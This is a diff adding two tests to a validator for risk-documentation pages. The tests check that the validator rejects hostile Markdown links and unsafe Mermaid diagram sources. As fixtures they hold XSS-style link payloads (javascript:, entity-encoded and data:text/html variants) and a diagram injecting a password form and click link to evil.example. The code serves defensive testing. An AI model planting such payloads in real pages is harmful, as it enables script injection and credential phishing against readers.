@@ -157,6 +157,34 @@ describe('integrity rules', () => {
     expect(lines.map((line) => line - (lines[0] ?? 0))).toEqual([0, 2, 4]);
   });
 
+  it('rejects links and images that are not http, https, mailto or relative, however they are spelled', () => {
+    const set = content();
+    const hostile = [
+      '[a](javascript:alert(1))',
+      '[b](JaVaScRiPt:alert(1))',
+      '[c](&#106;avascript:alert(1))',
+      '[d][ref]',
+      '![e](vbscript:msgbox)',
+      '[f](data:text/html,<b>x</b>)',
+      '[ref]: data:text/html;base64,PHNjcmlwdD4=',
+    ];
+    const safe = ['[g](https://kubernetes.io/)', '[h](mailto:security@example.com)', '[i](/risks/bh-r-001/)', '[j](#mechanism)', '[k](../concepts/)'];
+    set.edit(RISK, '## Mechanism', `${[...hostile, ...safe].join('\n\n')}\n\n## Mechanism`);
+    const problems = set.validate().problems.filter((item) => item.rule === 'mdx-body');
+    expect(problems.map((item) => item.value)).toEqual(['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'javascript:alert(1)', 'vbscript:msgbox', 'data:text/html,<b>x</b>', 'data:text/html;base64,PHNjcmlwdD4=']);
+    expect(problems[0]?.suggestion).toContain('http, https or mailto');
+  });
+
+  it('refuses diagram sources that could become markup, naming each line', () => {
+    const set = content();
+    set.edit(RISK, 'attackPath: |\n  flowchart LR\n', 'attackPath: |\n  flowchart LR\n    %%{init: {"securityLevel": "loose"}}%%\n    click A href "https://evil.example/"\n    X["<form action=https://evil.example><input type=password></form>"]\n    Y["<img src=x>"] --> Z["safe<br/>label"]\n');
+    const problems = set.validate().problems.filter((item) => item.rule === 'diagram-safety');
+    expect(problems.length).toBeGreaterThanOrEqual(4);
+    expect(problems.map((item) => item.message).join('\n')).toMatch(/init directive[\s\S]*click line[\s\S]*HTML in a label/);
+    expect(problems.every((item) => item.field === 'attackPath' && (item.line ?? 0) > 1)).toBe(true);
+    expect(problems.some((item) => item.value?.includes('br'))).toBe(false);
+  });
+
   it('accepts MDX comments, which render to nothing', () => {
     const set = content();
     set.edit(RISK, '## Mechanism', '{/* reviewed against CIS 5.2.1 */}\n\n## Mechanism');
